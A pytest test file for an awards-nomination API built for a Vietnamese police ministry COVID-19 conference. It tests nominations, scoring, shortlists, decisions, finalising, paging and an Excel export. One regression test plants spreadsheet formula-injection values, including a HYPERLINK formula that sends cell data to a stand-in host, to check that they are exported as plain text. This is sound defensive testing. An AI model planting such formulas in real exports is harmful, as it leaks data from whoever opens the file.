"""Awards through the HTTP API over the in-memory store: nominations, reviewer scores,
the ranked shortlist, decisions (single and bulk), finalising and the workbook."""

from __future__ import annotations

import io
from urllib.parse import urlencode

import pytest

from helpers import issue, put_report, seed_units

UNITS = [("bo-cong-an", "Bộ Công an", None, "ministry"),
         ("ca-nghe-an", "Công an tỉnh Nghệ An", "bo-cong-an", "province"),
         ("ca-ha-tinh", "Công an tỉnh Hà Tĩnh", "bo-cong-an", "province"),
         ("ca-da-nang", "Công an thành phố Đà Nẵng", "bo-cong-an", "province"),
         ("cuc-y-te", "Cục Y tế", "bo-cong-an", "department"),
         ("bv-19-8", "Bệnh viện 19-8", "cuc-y-te", "hospital"),
         ("bv-199", "Bệnh viện 199", "cuc-y-te", "hospital")]
FIGURES = {  # per officer, Hà Tĩnh (small) does more than Nghệ An (large)
    "ca-nghe-an": {"officers_mobilised": 1800, "people_traced": 7400, "citizens_escorted": 15000},
    "ca-ha-tinh": {"officers_mobilised": 300, "people_traced": 3000, "citizens_escorted": 4000},
    "ca-da-nang": {"officers_mobilised": 1700, "people_traced": 1000, "citizens_escorted": 1200},
    "bv-19-8": {"officers_mobilised": 240, "patients_treated": 980, "vaccination_support": 8600},
    "bv-199": {"officers_mobilised": 160, "patients_treated": 300, "vaccination_support": 1000},
}
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def world(api, admin_token, store):
    seed_units(store, UNITS)
    for unit_id, values in FIGURES.items():
        put_report(store, unit_id, "2021-08", values)
    conference = api.post("/v1/conferences", token=admin_token, body={
        "title": "Hội nghị sơ kết công tác phòng, chống dịch COVID-19", "date": "2021-08-31", "periods": ["2021-08"],
        "quotas": {"bang-khen-bo-truong": 2}, "recipients": ["lanhdao@bocongan.example.vn"],
        "signer": {"title": "CHÁNH VĂN PHÒNG", "name": "Nguyễn Văn A"}}).data
    tokens = {u: issue(store, "unit", unit_id=u) for u, *_ in UNITS}
    return {"conference": conference["id"], "tokens": tokens, "admin": admin_token, "store": store}


def nominate(api, token, unit, conference, **fields):
    body = {"conference_id": conference, "kind": "collective", "name": f"Tập thể {unit}",
            "award_form": "bang-khen-bo-truong", "achievements": "Hoàn thành xuất sắc nhiệm vụ phòng, chống dịch.",
            **fields}
    return api.post(f"/v1/units/{unit}/nominations", token=token, body=body)


def test_units_nominate_for_themselves_and_their_subtree_once_per_form(api, world):
    t, cid = world["tokens"], world["conference"]
    own = nominate(api, t["ca-nghe-an"], "ca-nghe-an", cid, name="Công an tỉnh Nghệ An")
    assert own.status_code == 201 and own.headers["ETag"] and own.headers["Location"].endswith(own.data["id"])
    assert own.data["status"] == "pending" and own.data["nominee_unit_id"] == "ca-nghe-an"
    person = nominate(api, t["cuc-y-te"], "cuc-y-te", cid, kind="individual", name="Nguyễn Văn Sơn",
                      position="Đại tá, Giám đốc", nominee_unit_id="bv-19-8")
    assert person.status_code == 201, person.body
    # a parent acts for its sub-unit's path; a unit never for a sibling's
    assert nominate(api, t["cuc-y-te"], "bv-199", cid).status_code == 201
    assert nominate(api, t["ca-nghe-an"], "ca-ha-tinh", cid).status_code == 403
    outside = nominate(api, t["cuc-y-te"], "cuc-y-te", cid, nominee_unit_id="ca-nghe-an", name="Đội X")
    assert outside.status_code == 422 and outside.data["errors"][0]["field"] == "nominee_unit_id"
    again = nominate(api, t["cuc-y-te"], "cuc-y-te", cid, kind="individual", name="  nguyễn  văn SƠN ",
                     position="Đại tá", nominee_unit_id="bv-19-8")
    assert again.status_code == 409
    other_form = nominate(api, t["cuc-y-te"], "cuc-y-te", cid, kind="individual", name="Nguyễn Văn Sơn",
                          position="Đại tá", nominee_unit_id="bv-19-8", award_form="giay-khen")
    assert other_form.status_code == 201
    flag_for_person = nominate(api, t["ca-nghe-an"], "ca-nghe-an", cid, kind="individual", name="Lê Văn B",
                               position="Thượng tá", award_form="co-thi-dua-bo-cong-an")
    assert flag_for_person.status_code == 422 and flag_for_person.data["errors"][0]["field"] == "award_form"
    no_position = nominate(api, t["ca-nghe-an"], "ca-nghe-an", cid, kind="individual", name="Lê Văn C")
    assert no_position.status_code == 422


def test_a_unit_cannot_read_another_units_nominations(api, world):
    t, cid = world["tokens"], world["conference"]
    theirs = nominate(api, t["ca-ha-tinh"], "ca-ha-tinh", cid).data
    assert api.get("/v1/units/ca-ha-tinh/nominations", token=t["ca-nghe-an"]).status_code == 403
    assert api.get(f"/v1/nominations/{theirs['id']}", token=t["ca-nghe-an"]).status_code == 403
    assert api.patch(f"/v1/nominations/{theirs['id']}", token=t["ca-nghe-an"], body={"name": "x"}).status_code == 403
    mine = api.get("/v1/units/ca-ha-tinh/nominations", token=t["ca-ha-tinh"], headers={})
    assert [n["id"] for n in mine.data["items"]] == [theirs["id"]]
    leader = issue(world["store"], "leader")
    assert api.get(f"/v1/nominations/{theirs['id']}", token=leader).status_code == 200
    assert api.post(f"/v1/nominations/{theirs['id']}/decision", token=t["ca-ha-tinh"],
                    body={"decision": "approve"}, headers={"If-Match": "x"}).status_code == 403


def test_a_unit_edits_its_nomination_with_etags_until_decided(api, world):
    t, cid = world["tokens"], world["conference"]
    n = nominate(api, t["ca-nghe-an"], "ca-nghe-an", cid).data
    etag = api.get(f"/v1/nominations/{n['id']}", token=t["ca-nghe-an"]).headers["ETag"]
    edited = api.patch(f"/v1/nominations/{n['id']}", token=t["ca-nghe-an"], body={"achievements": "Sửa lại."},
                       headers={"If-Match": etag})
    assert edited.status_code == 200 and edited.data["version"] == 2 and edited.headers["ETag"] != etag
    assert api.patch(f"/v1/nominations/{n['id']}", token=t["ca-nghe-an"], body={"achievements": "Cũ."},
                     headers={"If-Match": etag}).status_code == 412
    approved = api.post(f"/v1/nominations/{n['id']}/decision", token=world["admin"], body={"decision": "approve"},
                        headers={"If-Match": edited.headers["ETag"]})
    assert approved.status_code == 200 and approved.data["status"] == "approved"
    locked = api.patch(f"/v1/nominations/{n['id']}", token=t["ca-nghe-an"], body={"achievements": "Thêm."},
                       headers={"If-Match": approved.headers["ETag"]})
    assert locked.status_code == 423 and locked.data["reason"] == "decided"


def test_decisions_need_the_current_etag_and_a_reject_needs_a_note(api, world):
    t, cid, admin = world["tokens"], world["conference"], world["admin"]
    n = nominate(api, t["ca-nghe-an"], "ca-nghe-an", cid)
    path = f"/v1/nominations/{n.data['id']}/decision"
    assert api.post(path, token=admin, body={"decision": "approve"}).status_code == 428
    no_note = api.post(path, token=admin, body={"decision": "reject"}, headers={"If-Match": n.headers["ETag"]})
    assert no_note.status_code == 422 and no_note.data["errors"][0]["field"] == "note"
    held = api.post(path, token=admin, body={"decision": "hold", "note": "Chờ xác minh"},
                    headers={"If-Match": n.headers["ETag"]})
    assert held.status_code == 200 and held.data["status"] == "held"
    stale = api.post(path, token=admin, body={"decision": "approve"}, headers={"If-Match": n.headers["ETag"]})
    assert stale.status_code == 412
    moved = api.post(path, token=admin, body={"decision": "approve", "award_form": "giay-khen"},
                     headers={"If-Match": held.headers["ETag"]})
    assert moved.status_code == 200 and moved.data["award_form"] == "giay-khen"
    assert moved.data["decision"]["award_form_before"] == "bang-khen-bo-truong"
    actions = [e["action"] for e in api.get(f"/v1/nominations/{n.data['id']}/audit", token=admin).data["items"]]
    assert actions == ["approve", "hold", "nominated"]


def test_bulk_decisions_are_all_or_nothing(api, world):
    t, cid, admin = world["tokens"], world["conference"], world["admin"]
    a = nominate(api, t["ca-nghe-an"], "ca-nghe-an", cid)
    b = nominate(api, t["ca-ha-tinh"], "ca-ha-tinh", cid)
    assert api.patch(f"/v1/nominations/{b.data['id']}", token=t["ca-ha-tinh"], body={"achievements": "Mới."},
                     headers={"If-Match": b.headers["ETag"]}).status_code == 200
    body = {"items": [{"nomination_id": a.data["id"], "etag": a.headers["ETag"], "decision": "approve"},
                      {"nomination_id": b.data["id"], "etag": b.headers["ETag"], "decision": "approve"}]}
    stale = api.post(f"/v1/conferences/{cid}/decisions", token=admin, body=body)
    assert stale.status_code == 412 and b.data["id"] in stale.data["detail"]
    assert api.get(f"/v1/nominations/{a.data['id']}", token=admin).data["status"] == "pending"  # nothing written
    body["items"][1]["etag"] = api.get(f"/v1/nominations/{b.data['id']}", token=admin).headers["ETag"]
    done = api.post(f"/v1/conferences/{cid}/decisions", token=admin, body=body)
    assert done.status_code == 200 and [n["status"] for n in done.data["items"]] == ["approved", "approved"]


def test_the_shortlist_ranks_by_the_rubric_marks_the_quota_and_never_changes_order(api, world):
    t, cid, admin = world["tokens"], world["conference"], world["admin"]
    for unit in ("ca-nghe-an", "ca-ha-tinh", "ca-da-nang"):
        assert nominate(api, t[unit], unit, cid).status_code == 201
    first = api.get(f"/v1/conferences/{cid}/shortlist", token=admin)
    assert first.status_code == 200
    rows = first.data["items"]
    # Hà Tĩnh's 300 officers traced and escorted most per officer: first, ahead of large Nghệ An
    assert [r["nomination"]["unit_id"] for r in rows] == ["ca-ha-tinh", "ca-nghe-an", "ca-da-nang"]
    assert [r["rank"] for r in rows] == [1, 2, 3] and [r["within_quota"] for r in rows] == [True, True, False]
    assert rows[0]["score"]["automatic"] > rows[1]["score"]["automatic"] and rows[0]["score"]["reviewers"] is None
    for _ in range(3):
        assert api.get(f"/v1/conferences/{cid}/shortlist", token=admin).data == first.data
    quota = next(q for q in first.data["quotas"] if q["award_form"] == "bang-khen-bo-truong")
    assert (quota["quota"], quota["nominated"], quota["approved"]) == (2, 3, 0)

    # reviewers move Đà Nẵng up; a rejected nomination gives up its place under the quota
    reviewer = issue(world["store"], "leader")
    danang = rows[2]["nomination"]["id"]
    scored = api.post(f"/v1/nominations/{danang}/scores", token=reviewer,
                      body={"scores": {"impact": 10, "exemplary": 10, "initiative": 10}})
    assert scored.status_code == 200
    after = api.get(f"/v1/conferences/{cid}/shortlist", token=admin).data["items"]
    assert after[0]["nomination"]["id"] == danang and after[0]["score"]["reviewers"] == 100.0
    hatinh = next(r for r in after if r["nomination"]["unit_id"] == "ca-ha-tinh")
    api.post(f"/v1/nominations/{hatinh['nomination']['id']}/decision", token=admin,
             body={"decision": "reject", "note": "Trùng thành tích đã khen"},
             headers={"If-Match": api.get(f"/v1/nominations/{hatinh['nomination']['id']}", token=admin).headers["ETag"]})
    final = api.get(f"/v1/conferences/{cid}/shortlist", token=admin).data["items"]
    assert [(r["nomination"]["unit_id"], r["within_quota"]) for r in final] == [
        ("ca-da-nang", True), ("ca-ha-tinh", False), ("ca-nghe-an", True)]


def test_a_reviewer_cannot_score_a_nomination_of_their_own_unit(api, world):
    t, cid, admin = world["tokens"], world["conference"], world["admin"]
    hospital = nominate(api, t["cuc-y-te"], "bv-19-8", cid, name="Bệnh viện 19-8").data
    from_cuc = api.post("/v1/tokens", token=admin, body={"role": "leader", "name": "Cục trưởng", "unit_id": "cuc-y-te"})
    assert from_cuc.status_code == 201
    body = {"scores": {"impact": 9, "exemplary": 9, "initiative": 9}}
    conflicted = api.post(f"/v1/nominations/{hospital['id']}/scores", token=from_cuc.data["token"], body=body)
    assert conflicted.status_code == 403 and conflicted.data["reason"] == "conflict_of_interest"
    other = api.post("/v1/tokens", token=admin, body={"role": "leader", "name": "Ông B", "unit_id": "ca-nghe-an"})
    assert api.post(f"/v1/nominations/{hospital['id']}/scores", token=other.data["token"], body=body).status_code == 200
    partial = api.post(f"/v1/nominations/{hospital['id']}/scores", token=other.data["token"], body={"scores": {"impact": 1}})
    assert partial.status_code == 422


def finalise(api, admin: str, cid: str):
    """Finalise as the admin page does: conditioned on the conference as just read."""
    etag = api.get(f"/v1/conferences/{cid}", token=admin).headers["ETag"]
    return api.post(f"/v1/conferences/{cid}/finalise", token=admin, headers={"If-Match": etag})


def test_after_finalise_every_change_is_locked(api, world):
    t, cid, admin = world["tokens"], world["conference"], world["admin"]
    n = nominate(api, t["ca-nghe-an"], "ca-nghe-an", cid)
    approved = api.post(f"/v1/nominations/{n.data['id']}/decision", token=admin, body={"decision": "approve"},
                        headers={"If-Match": n.headers["ETag"]})
    finalised = finalise(api, admin, cid)
    assert finalised.status_code == 200 and finalised.data["finalised_at"]
    assert finalise(api, admin, cid).status_code == 423
    checks = [
        nominate(api, t["ca-ha-tinh"], "ca-ha-tinh", cid),
        api.patch(f"/v1/nominations/{n.data['id']}", token=admin, body={"achievements": "x"},
                  headers={"If-Match": approved.headers["ETag"]}),
        api.post(f"/v1/nominations/{n.data['id']}/decision", token=admin, body={"decision": "hold"},
                 headers={"If-Match": approved.headers["ETag"]}),
        api.post(f"/v1/conferences/{cid}/decisions", token=admin, body={"items": [
            {"nomination_id": n.data["id"], "etag": approved.headers["ETag"], "decision": "hold"}]}),
        api.post(f"/v1/nominations/{n.data['id']}/scores", token=admin,
                 body={"scores": {"impact": 1, "exemplary": 1, "initiative": 1}}),
        api.patch(f"/v1/conferences/{cid}", token=admin, body={"quotas": {"giay-khen": 3}}),
    ]
    assert [c.status_code for c in checks] == [423] * len(checks), [c.body for c in checks]
    assert api.get(f"/v1/conferences/{cid}/shortlist", token=admin).data["finalised_at"]


def test_finalise_refuses_more_approvals_than_the_quota(api, world):
    t, cid, admin = world["tokens"], world["conference"], world["admin"]
    items = []
    for unit in ("ca-nghe-an", "ca-ha-tinh", "ca-da-nang"):
        n = nominate(api, t[unit], unit, cid)
        items.append({"nomination_id": n.data["id"], "etag": n.headers["ETag"], "decision": "approve"})
    assert api.post(f"/v1/conferences/{cid}/decisions", token=admin, body={"items": items}).status_code == 200
    over = finalise(api, admin, cid)
    assert over.status_code == 409 and "3/2" in over.data["detail"]


def test_the_shortlist_as_a_workbook(api, world):
    from openpyxl import load_workbook

    t, cid, admin = world["tokens"], world["conference"], world["admin"]
    n = nominate(api, t["ca-nghe-an"], "ca-nghe-an", cid, name="Công an tỉnh Nghệ An")
    api.post(f"/v1/nominations/{n.data['id']}/decision", token=admin, body={"decision": "approve"},
             headers={"If-Match": n.headers["ETag"]})
    nominate(api, t["ca-ha-tinh"], "ca-ha-tinh", cid, kind="individual", name="Trần Thị Ánh", position="Thiếu tá")
    resp = api.get(f"/v1/conferences/{cid}/shortlist", token=admin, headers={"Accept": XLSX})
    assert resp.status_code == 200 and resp.headers["Content-Type"] == XLSX
    book = load_workbook(io.BytesIO(resp.body))
    assert book.sheetnames == ["Xếp hạng", "Danh sách khen thưởng"]
    ranked = [[c.value for c in row] for row in book["Xếp hạng"].iter_rows(min_row=4)]
    assert {r[4] for r in ranked} == {"Công an tỉnh Nghệ An", "Trần Thị Ánh"}
    final = [[c.value for c in row] for row in book["Danh sách khen thưởng"].iter_rows()]
    assert final[0][0] == "DANH SÁCH KHEN THƯỞNG (DỰ THẢO)"
    assert [r[1] for r in final if r[0] == 1] == ["Công an tỉnh Nghệ An"]  # only approved ones


def test_defect_2_unit_supplied_text_is_never_a_formula_in_the_workbook(api, world):
    """A nominee named like a formula (or any text a spreadsheet would evaluate) is shown as written."""
    from openpyxl import load_workbook

    t, cid, admin = world["tokens"], world["conference"], world["admin"]
    name = '=HYPERLINK("http://x/?d="&A1,"click")'
    position = "@SUM(1+1) Đại tá"
    achievements = "=1+1 Hoàn thành xuất sắc nhiệm vụ."  # (the API strips leading tabs and line breaks)
    note = "=2*3"
    person = nominate(api, t["ca-nghe-an"], "ca-nghe-an", cid, kind="individual", name=name, position=position,
                      achievements=achievements)
    assert person.status_code == 201, person.body
    approved = api.post(f"/v1/nominations/{person.data['id']}/decision", token=admin,
                        body={"decision": "approve", "note": note}, headers={"If-Match": person.headers["ETag"]})
    assert approved.status_code == 200, approved.body
    team = nominate(api, t["ca-ha-tinh"], "ca-ha-tinh", cid, name="+84 Đội phản ứng nhanh",
                    achievements="-5 ca mắc mới sau một tuần.")
    assert team.status_code == 201, team.body
    resp = api.get(f"/v1/conferences/{cid}/shortlist", token=admin, headers={"Accept": XLSX})
    assert resp.status_code == 200 and resp.headers["Content-Type"] == XLSX
    book = load_workbook(io.BytesIO(resp.body))

    ranked = {c.value: c for row in book["Xếp hạng"].iter_rows(min_row=4) for c in row if isinstance(c.value, str)}
    for text in (name, position, note, "+84 Đội phản ứng nhanh"):
        assert text in ranked, (text, sorted(ranked))
        assert ranked[text].data_type == "s"
    final = {c.value: c for row in book["Danh sách khen thưởng"].iter_rows() for c in row if isinstance(c.value, str)}
    for text in (name, position, achievements):
        assert text in final, (text, sorted(final))
        assert final[text].data_type == "s"
    for sheet in book.worksheets:  # nothing anywhere is a formula
        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    # Excel keeps the text literal even when someone edits the cell (the quote prefix)
    assert ranked[name].quotePrefix and final[name].quotePrefix and final[achievements].quotePrefix


def _achievements(i: int, size: int = 20_000) -> str:
    sentence = "Đơn vị đã hoàn thành xuất sắc nhiệm vụ phòng, chống dịch COVID-19, bảo đảm an ninh trật tự. "
    return (f"Thành tích số {i}: " + sentence * (size // len(sentence) + 1))[:size - 1] + "."


def _all_pages(api, path, token, limit=None):
    """Follow `next` from the first page; every page as it came."""
    pages, cursor = [], None
    while True:
        query = urlencode({k: v for k, v in (("limit", limit), ("cursor", cursor)) if v})
        resp = api.get(f"{path}?{query}" if query else path, token=token)
        assert resp.status_code == 200, resp.body[:300]
        pages.append(resp)
        cursor = resp.data["next"]
        if cursor is None:
            return pages
        assert len(pages) < 100, "next never ends"


def test_defect_8_the_shortlist_comes_in_pages_of_short_rows(api, world):
    """260 nominations of 20,000 characters each were one 7 MB body, over Lambda's 6 MB response limit."""
    t, cid, admin = world["tokens"], world["conference"], world["admin"]
    forms = ("co-thi-dua-bo-cong-an", "bang-khen-bo-truong", "giay-khen")  # in order of precedence
    units = ("ca-nghe-an", "ca-ha-tinh", "ca-da-nang", "bv-19-8", "bv-199")
    ids = set()
    for i in range(260):
        unit = units[i % len(units)]
        created = nominate(api, t[unit], unit, cid, name=f"Đội công tác số {i:03d}", award_form=forms[i % 3],
                           achievements=_achievements(i))
        assert created.status_code == 201, created.body
        ids.add(created.data["id"])
    per_form = {form: sum(1 for i in range(260) if forms[i % 3] == form) for form in forms}
    path = f"/v1/conferences/{cid}/shortlist"

    orders = []
    for limit in (None, 100, 7):
        pages = _all_pages(api, path, admin, limit)
        assert len(pages) == -(-260 // (limit or 50))
        for resp in pages:
            assert len(resp.body) < 1_000_000
            assert len(resp.data["items"]) == (limit or 50) or resp is pages[-1]
            # the whole conference's quota summary and state on every page
            assert resp.data["finalised_at"] is None
            assert {q["award_form"]: q["nominated"] for q in resp.data["quotas"]} == per_form
        rows = [row for resp in pages for row in resp.data["items"]]
        assert len(rows) == 260 and {r["nomination"]["id"] for r in rows} == ids  # all, exactly once
        # in rank order: the forms by precedence, each ranked 1, 2, 3 … without a gap
        assert [r["nomination"]["award_form"] for r in rows] == sorted((r["nomination"]["award_form"] for r in rows),
                                                                      key=forms.index)
        for form in forms:
            assert [r["rank"] for r in rows if r["nomination"]["award_form"] == form] == list(range(1, per_form[form] + 1))
        orders.append([r["nomination"]["id"] for r in rows])
    assert orders[0] == orders[1] == orders[2]  # the same ranking whatever the page size

    # rows are short: an excerpt cut at a word, and the full length; the full text is one GET away
    row = rows[0]
    excerpt, full_length = row["nomination"]["achievements"], row["nomination"]["achievements_length"]
    assert full_length == 20_000 and len(excerpt) <= 300 and excerpt.endswith("…")
    full = api.get(f"/v1/nominations/{row['nomination']['id']}", token=admin).data["achievements"]
    assert len(full) == 20_000 and full.startswith(excerpt[:-1]) and full[len(excerpt) - 1] in " ,.;:"

    # the workbook keeps every row, in the same order
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(api.get(path, token=admin, headers={"Accept": XLSX}).body))
    assert [r[4].value for r in book["Xếp hạng"].iter_rows(min_row=4)] == [r["nomination"]["name"] for r in rows]

    # a cursor of another conference or another listing, or one we never issued, is refused
    other = api.post("/v1/conferences", token=admin, body={
        "title": "Hội nghị tổng kết", "date": "2021-12-20", "periods": ["2021-08"],
        "signer": {"title": "CHÁNH VĂN PHÒNG", "name": "Nguyễn Văn A"}}).data["id"]
    for i in range(2):
        assert nominate(api, t["ca-nghe-an"], "ca-nghe-an", other, name=f"Đội {i}").status_code == 201
    foreign = api.get(f"/v1/conferences/{other}/shortlist?limit=1", token=admin).data["next"]
    mine = api.get(f"{path}?limit=1", token=admin).data["next"]
    units_cursor = api.get("/v1/units?limit=1", token=admin).data["next"]
    assert foreign and mine and units_cursor
    for bad in (foreign, units_cursor, "garbage", "bm9wZQ", mine[:-2], mine + "x", "%E2%80%AE", "A" * 5000):
        resp = api.get(f"{path}?cursor={bad}", token=admin)
        assert resp.status_code == 422 and resp.data["errors"][0]["field"] == "cursor", (bad, resp.body[:300])
    assert api.get(f"/v1/conferences/{other}/shortlist?cursor={mine}", token=admin).status_code == 422
    assert api.get(f"{path}?limit=0", token=admin).status_code == 422


def test_defect_6_a_reviewer_of_the_nominees_unit_is_conflicted_too(api, world):
    """A parent nominating its child's collective: the child's own leader may not score it."""
    t, cid, admin = world["tokens"], world["conference"], world["admin"]
    by_parent = nominate(api, t["cuc-y-te"], "cuc-y-te", cid, name="Khoa Truyền nhiễm", nominee_unit_id="bv-19-8")
    assert by_parent.status_code == 201 and by_parent.data["unit_id"] == "cuc-y-te"
    body = {"scores": {"impact": 9, "exemplary": 9, "initiative": 9}}
    hospital_leader = api.post("/v1/tokens", token=admin,
                               body={"role": "leader", "name": "Giám đốc Bệnh viện", "unit_id": "bv-19-8"}).data["token"]
    refused = api.post(f"/v1/nominations/{by_parent.data['id']}/scores", token=hospital_leader, body=body)
    assert refused.status_code == 403 and refused.data["reason"] == "conflict_of_interest"
    sibling_leader = api.post("/v1/tokens", token=admin,
                              body={"role": "leader", "name": "Giám đốc Bệnh viện 199", "unit_id": "bv-199"}).data["token"]
    assert api.post(f"/v1/nominations/{by_parent.data['id']}/scores", token=sibling_leader,
                    body=body).status_code == 200


def test_defect_7_a_decision_that_moves_the_form_moves_the_uniqueness_guard(api, world):
    t, cid, admin = world["tokens"], world["conference"], world["admin"]
    first = nominate(api, t["ca-nghe-an"], "ca-nghe-an", cid, kind="individual", name="Nguyễn Văn Bình",
                     position="Thượng tá")
    moved = api.post(f"/v1/nominations/{first.data['id']}/decision", token=admin,
                     body={"decision": "approve", "award_form": "giay-khen"}, headers={"If-Match": first.headers["ETag"]})
    assert moved.status_code == 200 and moved.data["award_form"] == "giay-khen"
    again_new_form = nominate(api, t["ca-nghe-an"], "ca-nghe-an", cid, kind="individual", name="Nguyễn Văn Bình",
                              position="Thượng tá", award_form="giay-khen")
    assert again_new_form.status_code == 409, again_new_form.body  # the person holds that form now
    again_old_form = nominate(api, t["ca-nghe-an"], "ca-nghe-an", cid, kind="individual", name="Nguyễn Văn Bình",
                              position="Thượng tá")
    assert again_old_form.status_code == 201, again_old_form.body  # and no longer blocks the old one
    # moving the new one onto a form the person already holds is refused, and nothing is written
    clash = api.post(f"/v1/nominations/{again_old_form.data['id']}/decision", token=admin,
                     body={"decision": "approve", "award_form": "giay-khen"},
                     headers={"If-Match": again_old_form.headers["ETag"]})
    assert clash.status_code == 409, clash.body
    assert api.get(f"/v1/nominations/{again_old_form.data['id']}", token=admin).data["status"] == "pending"


def test_defect_1_a_decision_or_score_staged_before_finalise_is_refused_at_commit(api, world):
    """The interleaving the races hit, made deterministic: a decision and a score both checked the
    list was open, then the list is finalised, then they commit: both are refused, nothing stored."""
    from chalicelib.awards import nominations as service
    from chalicelib.awards.models import DecisionIn, ScoresIn
    from chalicelib.core.access import Principal
    from chalicelib.core.clock import SystemClock
    from chalicelib.core.errors import Locked
    from chalicelib.core.states import Role

    t, cid, admin, store = world["tokens"], world["conference"], world["admin"], world["store"]
    n = nominate(api, t["ca-nghe-an"], "ca-nghe-an", cid)
    office, leader = Principal("adm", Role.ADMIN, None, "Văn phòng"), Principal("ldr", Role.LEADER, None, "Thứ trưởng")
    decision, score = store.unit_of_work(), store.unit_of_work()
    service.decide(decision, office, n.data["id"], DecisionIn(decision="approve"), n.headers["ETag"].strip('"'),
                   SystemClock().now())
    service.score_nomination(score, leader, n.data["id"], ScoresIn(scores={"impact": 9, "exemplary": 9, "initiative": 9}),
                             SystemClock().now())
    assert finalise(api, admin, cid).status_code == 200
    for work in (decision, score):
        with pytest.raises(Locked):
            work.commit()
    assert api.get(f"/v1/nominations/{n.data['id']}", token=admin).data["status"] == "pending"
    assert store.nominations.scores(cid) == []


def test_a_conference_from_before_the_approval_counts_is_counted_from_its_nominations(api, world):
    from chalicelib.store import keys
    from chalicelib.store.table import Update

    t, cid, admin, store = world["tokens"], world["conference"], world["admin"], world["store"]
    items = []
    for unit in ("ca-nghe-an", "ca-ha-tinh", "ca-da-nang"):
        n = nominate(api, t[unit], unit, cid)
        items.append({"nomination_id": n.data["id"], "etag": n.headers["ETag"], "decision": "approve"})
    assert api.post(f"/v1/conferences/{cid}/decisions", token=admin, body={"items": items}).status_code == 200
    # as stored before this release: no marker, no counts
    counts = {attr: None for attr in store.conferences.get(cid) if attr.startswith(("approved#", "approvals_counted"))}
    assert len(counts) == 2
    store.table.write(Update(keys.conference(cid), counts))
    over = finalise(api, admin, cid)
    assert over.status_code == 409 and "3/2" in over.data["detail"]


def test_bulk_decisions_approve_reject_with_a_note_and_hold_each_on_its_etag(api, world):
    """The bulk route takes each of the single route's decisions, item by item, each conditioned on the
    ETag the office read (quoted as an ETag header gives it, or bare); a reject without a note refuses
    the whole batch, naming the item."""
    t, cid, admin = world["tokens"], world["conference"], world["admin"]
    made = [nominate(api, t[u], u, cid) for u in ("ca-nghe-an", "ca-ha-tinh", "ca-da-nang")]
    items = [{"nomination_id": made[0].data["id"], "etag": made[0].headers["ETag"], "decision": "approve"},
             {"nomination_id": made[1].data["id"], "etag": f'"{made[1].headers["ETag"]}"', "decision": "reject"},
             {"nomination_id": made[2].data["id"], "etag": made[2].headers["ETag"], "decision": "hold",
              "note": "Chờ xác minh"}]
    no_note = api.post(f"/v1/conferences/{cid}/decisions", token=admin, body={"items": items})
    assert no_note.status_code == 422 and no_note.data["errors"][0]["field"] == "items.1.note"
    assert {api.get(f"/v1/nominations/{m.data['id']}", token=admin).data["status"] for m in made} == {"pending"}
    items[1]["note"] = "Trùng thành tích đã khen"
    done = api.post(f"/v1/conferences/{cid}/decisions", token=admin, body={"items": items})
    assert done.status_code == 200, done.body
    assert [n["status"] for n in done.data["items"]] == ["approved", "rejected", "held"]
    assert done.data["items"][1]["decision"]["note"] == "Trùng thành tích đã khen"
    # each decision is the single route's: its own audit event, a new ETag (the old one is stale now)
    for m, action in zip(made, ("approve", "reject", "hold")):
        audit = api.get(f"/v1/nominations/{m.data['id']}/audit", token=admin).data["items"]
        assert audit[0]["action"] == action
    again = api.post(f"/v1/conferences/{cid}/decisions", token=admin, body={"items": items[2:]})
    assert again.status_code == 412
    held = api.get(f"/v1/nominations/{made[2].data['id']}", token=admin)
    approved = api.post(f"/v1/conferences/{cid}/decisions", token=admin, body={"items": [
        {"nomination_id": made[2].data["id"], "etag": held.headers["ETag"], "decision": "approve"}]})
    assert approved.status_code == 200 and approved.data["items"][0]["status"] == "approved"
